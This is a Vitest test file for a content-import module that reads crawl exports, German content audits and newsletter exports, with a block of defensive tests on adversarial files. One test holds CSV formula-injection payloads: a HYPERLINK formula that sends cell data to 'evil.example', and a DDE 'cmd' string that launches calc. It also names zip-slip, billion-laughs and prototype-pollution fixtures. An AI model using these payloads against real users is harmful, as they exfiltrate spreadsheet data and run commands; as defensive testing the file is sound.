import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { proposeMapping } from '@/server/domain/exchange/mapping.rules'
import { readTable } from '@/server/exchange/read-table'
import { convert, finish, item, mappingOf, plan, vocabulary } from '../../fixtures/exchange/world'

const folder = join(process.cwd(), '..', 'shared', 'data', 'fixtures')
const isThere = existsSync(folder)
if (!isThere) console.log(`skipped: the real files are read from ${folder}, which is not there`)

const read = (name: string) => readTable(readFileSync(join(folder, name)))
const countBy = (keys: readonly string[]) =>
  Object.fromEntries([...Map.groupBy(keys, (key) => key)].map(([key, all]) => [key, all.length]))

describe.skipIf(!isThere)('a crawl', () => {
  test('proposes its 63 indexable pages as published, and lists every other row with its reason', async () => {
    const table = await read('csv/screaming-frog-internal_all.csv')
    expect([table.encoding, table.delimiter, table.columns.length, table.rows.length, table.complaints.length]).toEqual([
      'utf-8',
      ',',
      74,
      215,
      0,
    ])
    const proposal = finish(proposeMapping(table, vocabulary))
    expect(proposal.kind).toBe('crawl')
    expect(proposal.defaultType).toBe('page')
    expect(proposal.mapping).toMatchObject({
      Address: 'url',
      'Title 1': 'title',
      'Meta Description 1': 'field.seoDescription',
      'Content Type': 'ignore',
      Status: 'ignore',
    })
    const { create, skipped, failed, conversion } = plan(table, [])
    expect([create.length, skipped.length, failed.length, conversion.failed.length]).toEqual([63, 0, 0, 0])
    expect(countBy(conversion.skipped.map(({ messageKey }) => messageKey))).toEqual({
      'exchange.skipped.redirect': 9,
      'exchange.skipped.notHtml': 136,
      'exchange.skipped.notIndexable': 7,
    })
    expect(
      create.every(
        ({ item: { step, type, publishedAt, title } }) => step === 'published' && type === 'page' && publishedAt && title,
      ),
    ).toBe(true)
  })

  test('comes back as no change when it was imported before', async () => {
    const table = await read('csv/screaming-frog-internal_all.csv')
    const { create } = plan(table, [])
    const stored = create.map(({ item: made }, i) =>
      item({
        ...made,
        id: `i${i}`,
        url: made.url ?? null,
        fields: made.fields ?? {},
        tags: { phase: [], channel: [], persona: [], topic: [], question: [], ...made.tags },
      } as Parameters<typeof item>[0]),
    )
    const again = plan(table, stored)
    expect([again.create.length, again.update.length, again.unchanged.length]).toEqual([0, 0, 63])
  })

  test('brings everything when asked to', async () => {
    const { create } = plan(await read('csv/screaming-frog-internal_all.csv'), [], { crawlRows: 'all' })
    expect(create).toHaveLength(215)
  })
})

describe.skipIf(!isThere)('an audit in German', () => {
  const expected = {
    planned: 'ignore',
    URL: 'url',
    Titel: 'title',
    Typ: 'type',
    Kanal: 'channel',
    Phase: 'phase',
    Status: 'status',
    'Veröffentlicht am': 'publishedAt',
    Verantwortlich: 'owner',
    Notiz: 'note',
    Wörter: 'ignore',
    Aufrufe: 'ignore',
  }
  const { planned: _, ...mapping } = expected

  test.each([
    ['csv/made-audit-de-macroman.csv', 'macroman', ';'],
    ['csv/made-audit-de-utf16-tab.txt', 'utf-16le', '\t'],
    ['adversarial/csv-renamed.xlsx', 'windows-1252', ';'],
    ['adversarial/xlsx-false-dimension.xlsx', null, null],
  ])('is read from %s', async (name, encoding, delimiter) => {
    const table = await read(name)
    expect([table.encoding, table.delimiter]).toEqual([encoding, delimiter])
    expect(mappingOf(table)).toMatchObject(mapping)
    const { rows, failed, notes } = convert(table)
    expect(failed).toEqual([])
    const phases = countBy(rows.slice(0, 60).map(({ edit }) => edit.tags?.phase?.join() ?? ''))
    expect(phases).toEqual({ '': 10, consideration: 13, retention: 12, awareness: 20, advocacy: 3, conversion: 2 })
    expect(countBy(rows.slice(0, 60).map(({ edit }) => edit.step ?? ''))).toEqual({ in_progress: 6, published: 54 })
    expect(rows[0]?.edit).toMatchObject({
      title: 'Geojson Utilities',
      ownerId: 'u1',
      tags: { channel: ['website'] },
      note: 'Zeile 1\nZeile 2; mit "Anführung"',
    })
    expect(rows[1]?.edit.publishedAt).toEqual(new Date('2023-03-04T23:00:00.000Z'))
    expect(
      notes.some(({ messageKey, details }) => messageKey === 'exchange.note.unknownValue' && details.value === 'Referenz'),
    ).toBe(true)
  })

  test('says when it had to guess an old encoding', async () => {
    const { complaints } = await read('csv/made-audit-de-macroman.csv')
    expect(complaints).toEqual([
      { level: 'note', row: null, messageKey: 'exchange.note.encodingGuessed', details: { encoding: 'macroman' } },
    ])
  })

  test('leaves the sum under a list out, saying so', async () => {
    const { skipped } = convert(await read('adversarial/xlsx-false-dimension.xlsx'))
    expect(skipped).toEqual([{ row: 65, messageKey: 'exchange.skipped.totals', details: {} }])
  })

  test('lets another sheet be picked', async () => {
    const bytes = readFileSync(join(folder, 'adversarial/xlsx-false-dimension.xlsx'))
    const first = await readTable(bytes)
    expect(first.sheets).toEqual([
      { name: 'Content-Audit', isHidden: false },
      { name: 'Listen', isHidden: true },
      { name: 'E-Mails', isHidden: false },
    ])
    expect((await readTable(bytes, { sheet: 'E-Mails' })).columns).toEqual(['Betreff', 'Versandt am', 'Liste'])
    await expect(readTable(bytes, { sheet: 'Nope' })).rejects.toMatchObject({ messageKey: 'exchange.problem.noSuchSheet' })
  })
})

describe.skipIf(!isThere)('hostile files', () => {
  test('dates: one row proves the order of its column', async () => {
    const { rows, failed } = convert(await read('adversarial/csv-ambiguous-dates.csv'))
    expect(failed).toEqual([])
    const days = rows.map(({ edit }) => new Date((edit.publishedAt?.getTime() ?? 0) + 7_200_000).toISOString().slice(0, 10))
    expect(days).toEqual(['2024-05-03', '2024-05-13', '2024-05-03', '2024-03-05', '2024-03-05', '2024-05-03'])
  })

  test('dates of the calendar from 1904 are not four years early, also in a file with the wrong name', async () => {
    for (const name of ['xlsx/made-1904-epoch.xlsx', 'adversarial/xlsx-renamed.csv']) {
      const table = await read(name)
      expect(table.format).toBe('xlsx')
      expect(table.rows.map(({ cells }) => (cells[1] instanceof Date ? cells[1].toISOString().slice(0, 10) : cells[1]))).toEqual([
        '2024-03-01',
        '2024-03-02',
        '2024-03-03',
        '2024-03-04',
        '2024-03-05',
      ])
    }
  })

  test('headers that are double, empty or marked get names of their own', async () => {
    const { columns, rows } = await read('adversarial/csv-duplicate-and-empty-headers.csv')
    expect(columns).toEqual(['Titel', 'Titel (2)', '#3', 'URL', 'Phase'])
    expect(rows).toHaveLength(1)
  })

  test('formulas come in as the text they are', async () => {
    const { rows } = await read('adversarial/csv-formula-injection.csv')
    expect(rows.map(({ cells }) => cells[0])).toEqual([
      '=HYPERLINK("https://evil.example?x="&A1;"klick")',
      '+49 170 1234567',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-10% auf alles',
      '\t=1+1',
    ])
  })

  test('zero bytes and three kinds of line ends leave three rows', async () => {
    const { rows, complaints } = await read('adversarial/csv-nul-and-mixed-eol.csv')
    expect(rows.map(({ cells }) => cells[0])).toEqual(['A', 'B', 'C'])
    expect(complaints.map(({ messageKey }) => messageKey)).toEqual(['exchange.note.zeroBytes'])
  })

  test('a bare list of addresses gets its titles from them', async () => {
    const table = await read('adversarial/csv-one-column-html.csv')
    const { create } = plan(table, [])
    expect(create).toHaveLength(200)
    expect(create[7]?.item).toMatchObject({
      url: 'https://example.org/7',
      title: 'example.org/7',
      type: 'page',
      step: 'published',
    })
  })

  test('ragged rows are kept and named; the unreadable one is lost with a line in the report', async () => {
    const table = await read('adversarial/csv-ragged.csv')
    expect(table.rows.map(({ cells }) => cells[0])).toEqual([
      'Eins',
      'Zwei',
      'Drei',
      'Vier "zitiert"',
      'Fünf\nmit Umbruch',
      'Sechs',
    ])
    expect(table.complaints.map(({ level, row }) => [level, row])).toEqual([
      ['lost', 9],
      ['warning', 3],
      ['warning', 4],
    ])
  })

  test.each([
    ['adversarial/empty.xml', 'exchange.problem.empty'],
    ['adversarial/html-saved-as.xml', 'exchange.problem.html'],
    ['adversarial/zip-slip.zip', 'exchange.problem.zip'],
    ['adversarial/xml-billion-laughs.xml', 'exchange.problem.xml'],
    ['adversarial/json-deep.json', 'exchange.problem.tooDeep'],
    ['adversarial/json-proto.json', 'exchange.problem.foreignJson'],
    ['adversarial/json-big-ids.json', 'exchange.problem.foreignJson'],
    ['adversarial/json-bom.json', 'exchange.problem.foreignJson'],
    ['adversarial/ndjson-bad-line.ndjson', 'exchange.problem.brokenJson'],
  ])('%s is refused in words', async (name, messageKey) => {
    await expect(read(name)).rejects.toMatchObject({ name: 'UnreadableFile', messageKey })
    expect(Object.hasOwn(Object.prototype, 'admin')).toBe(false)
  })

  test('a list of people is known for one', async () => {
    expect(finish(proposeMapping(await read('csv/mailchimp-audience-cleaned.csv'), vocabulary)).kind).toBe('people')
  })

  test.each([
    ['csv/beehiiv-posts.csv', 2],
    ['csv/wix-empty.csv', 0],
    ['hubspot/made-blog-export.csv', 18],
    ['buttondown/emails.csv', 2],
  ])('%s comes in whole', async (name, count) => {
    const { create, failed, conversion } = plan(await read(name), [])
    expect([create.length, failed.length, conversion.failed.length]).toEqual([count, 0, 0])
  })

  test('campaigns of one title are reported as duplicates, not merged', async () => {
    const { create, skipped, failed } = plan(await read('mailchimp/made-campaigns.csv'), [])
    expect([create.length, failed.length]).toEqual([10, 0])
    expect(new Set(skipped.map(({ messageKey }) => messageKey))).toEqual(new Set(['exchange.skipped.duplicate']))
    expect(skipped).toHaveLength(20)
  })
})
